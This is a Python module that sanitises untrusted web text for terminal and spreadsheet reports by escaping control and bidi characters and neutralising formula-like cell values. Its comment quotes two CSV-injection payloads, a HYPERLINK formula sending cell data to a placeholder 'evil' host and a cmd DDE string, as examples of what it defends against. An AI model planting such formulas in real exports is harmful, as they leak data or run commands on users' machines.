"""Text from articles and the web, made safe for where reports show it.

Anchor texts, file names, tweet texts and URLs come from strangers. On a terminal, a control
character is an escape sequence (clear the screen, set the window title) and a bidi control
shows text in reverse (`gnp.exe` for `exe.png`); in a spreadsheet, a cell that starts like a
formula is run as one. JSON and JSON Lines carry the text untouched: scripts read them.
"""

from __future__ import annotations

import re

#: What must not reach a terminal as it is: C0 and C1 controls and DEL (ESC starts the
#: sequences that move the cursor, clear the screen, set the window title or, with OSC 52, the
#: clipboard; rich passes ESC through), the bidi marks, overrides and isolates that make a
#: terminal show text in another order than it is (CVE-2021-42574, "Trojan Source"), and lone
#: surrogates (the bytes of a file name that is not UTF-8, as Python's surrogateescape keeps them).
UNSAFE = re.compile("[\x00-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")

#: What a spreadsheet takes for the start of a formula (OWASP "CSV Injection"): an anchor text
#: `=HYPERLINK("http://evil/?"&A1)` or `+cmd|' /C calc'!A0` would run when a csv is opened in
#: Excel, LibreOffice or Google Sheets.
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def visible_escapes(text: str) -> str:
    """`text` with each unsafe character written as its escape (`\\x1b`, `\\u202e`, `\\xe9` for
    a byte of a non-UTF-8 name): visible and inert, and two names still told apart."""
    return UNSAFE.sub(_escape, text) if UNSAFE.search(text) else text


def _escape(match: re.Match[str]) -> str:
    code = ord(match.group())
    if 0xDC80 <= code <= 0xDCFF:  # a byte of a file name that is not UTF-8 (surrogateescape)
        return f"\\x{code - 0xDC00:02x}"
    return match.group().encode("unicode_escape").decode("ascii")


def spreadsheet_text(value: str) -> str:
    """A free-text cell a spreadsheet shows as text: a leading `'` before a formula start. A
    lone `-` (stdin) is text already and stays as it is."""
    if len(value) > 1 and value.startswith(FORMULA_START):
        return "'" + value
    return value


__all__ = ["FORMULA_START", "UNSAFE", "spreadsheet_text", "visible_escapes"]
